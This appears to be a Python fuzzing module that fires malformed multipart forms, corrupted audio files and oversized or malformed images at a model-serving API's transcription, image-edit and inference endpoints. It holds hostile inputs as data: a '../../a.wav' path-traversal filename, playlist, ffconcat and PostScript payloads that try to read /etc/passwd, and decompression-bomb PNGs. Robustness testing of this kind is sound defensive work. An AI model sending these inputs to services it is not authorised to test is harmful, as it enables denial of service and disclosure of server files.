"""Forms, recordings and images that are none, or larger than they look."""

import io
import json
import random
import struct
import zlib

import aiohttp
import numpy as np
import soundfile
from hostile.target import Target

__all__ = ["CASES"]

TRANSCRIBE = "/v3/audio/transcriptions"
FORM = {"Content-Type": "multipart/form-data; boundary=x"}
PART = b'--x\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'


async def forms(target: Target) -> None:
    model = PART % (b"model", b"whisper")
    bodies = [b"", b"--x--\r\n", model, model + b"--x--\r\n", b"--x\r\n" * 100_000, b"a" * 10**6]
    bodies += [PART % (b"a", b"b") * 50_000 + b"--x--\r\n", model * 1000 + b"--x--\r\n"]
    bodies += [b"--x\r\n" + b"X: y\r\n" * 10_000 + b"\r\n\r\n--x--", b"--x\r\n" + b"a" * 1_000_000]
    bodies += [b'--x\r\nContent-Disposition: form-data; name="\xff"; filename*=a\r\n\r\n\r\n--x--']
    bodies += [PART % (b"model", b"\xff\xfe") + b"--x--\r\n", PART % (b"model", b"a" * 5_000_000)]
    nested = b"Content-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\n\r\n--y--\r\n"
    for body in (*bodies, b"--x\r\n" + nested + b"--x--\r\n"):
        for path in (TRANSCRIBE, "/v3/images/edits"):
            await target.post(path, body, headers=FORM)
    for boundary in ("", "a" * 1000, '"\\', "\x80", "a; boundary=b"):
        kind = f"multipart/form-data; boundary={boundary}"
        header = f"Content-Type: {kind}\r\nContent-Length: 5\r\nConnection: close\r\n"
        head = f"POST {TRANSCRIBE} HTTP/1.1\r\nHost: localhost\r\n{header}\r\n--x--"
        await target.raw(head.encode("latin-1"), wait_s=5)


def wav_header(**changed: int) -> bytes:
    """A WAV file's head with impossible members, and some samples."""
    found = {"size": 36, "channels": 1, "rate": 16_000, "bits": 16, "data": 2000, **changed}
    kind = struct.pack("<HHIIHH", 1, found["channels"], found["rate"], 32_000, 2, found["bits"])
    parts = b"WAVEfmt " + struct.pack("<I", 16) + kind + b"data" + struct.pack("<I", found["data"])
    return b"RIFF" + struct.pack("<I", found["size"]) + parts + bytes(2000)


def long_silence(hours: float) -> bytes:
    """A small file with a long recording."""
    file = io.BytesIO()
    with soundfile.SoundFile(file, "w", 8000, 1, format="FLAC", subtype="PCM_16") as out:
        for _ in range(int(hours * 60)):
            out.write(np.zeros(8000 * 60, np.int16))
    return file.getvalue()


async def recordings(target: Target) -> None:
    rng = random.Random(1)
    whole = wav_header()
    files = [b"", b"RIFF", rng.randbytes(5000), whole[:30], whole[:-1001], long_silence(1)]
    files += [wav_header(**{name: 2**16 - 1}) for name in ("channels", "bits")]
    files += [wav_header(**{name: 2**32 - 1}) for name in ("size", "rate", "data")]
    files += [wav_header(**{name: 0}) for name in ("channels", "rate", "bits", "data")]
    files += [head + rng.randbytes(3000) for head in (b"ID3\4\0\0\0\0\0\0", b"OggS\0\2", b"fLaC")]
    files += [b"\0\0\0 ftypisom" + rng.randbytes(3000), b"#EXTM3U\nfile:///etc/passwd\n"]
    files += [b"ffconcat version 1.0\nfile '/etc/passwd'\n", b"\x1aE\xdf\xa3" + rng.randbytes(3000)]
    for _ in range(60):
        damaged = bytearray(whole)
        for _ in range(5):
            damaged[rng.randrange(44)] = rng.randrange(256)
        files.append(bytes(damaged))
    for file in files:
        form = aiohttp.FormData({"model": "whisper"})
        form.add_field("file", file, filename="../../a.wav")
        with_form = target.http.post(TRANSCRIBE, data=form)
        async with with_form as response:
            await response.read()
            target.note(response.status, response.headers, f"{TRANSCRIBE} {file[:80]!r}")


def png(width: int, height: int, rows: bytes) -> bytes:
    """A PNG file that claims a size."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        content = kind + data
        return struct.pack(">I", len(data)) + content + struct.pack(">I", zlib.crc32(content))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


async def images(target: Target) -> None:
    rng = random.Random(1)
    files = [b"", rng.randbytes(2000), png(5, 4, b"\0" * 24), png(2**31 - 1, 2**31 - 1, b"")]
    files += [png(30_000, 30_000, b"\0" * 30_001 * 30_000), png(0, 0, b"")]
    files += [b"\xff\xd8\xff\xe0" + rng.randbytes(900), b"<svg/>", b"II*\0" * 99]
    files += [b"GIF89a" + b"\xff" * 900, b"BM" + b"\xff" * 900]
    files += [b"%!PS-Adobe\n(/etc/passwd) (r) file", b"RIFF\xff\xff\xff\xffWEBPVP8 " + b"\1" * 900]
    for file in files:
        body, headers = binary_tensor(file)
        await target.post("/v2/models/image/infer", body, headers=headers)


def binary_tensor(file: bytes) -> tuple[bytes, dict[str, str]]:
    """KServe's binary form of one encoded image: the body and its headers."""
    size = {"binary_data_size": len(file) + 4}
    tensor = {"name": "image", "shape": [1], "datatype": "BYTES", "parameters": size}
    head = json.dumps({"inputs": [tensor]}).encode()
    headers = {"Inference-Header-Content-Length": str(len(head))}
    return head + struct.pack("<I", len(file)) + file, headers


CASES = {
    "broken forms": forms,
    "recordings that are none": recordings,
    "images that are none, or bombs": images,
}
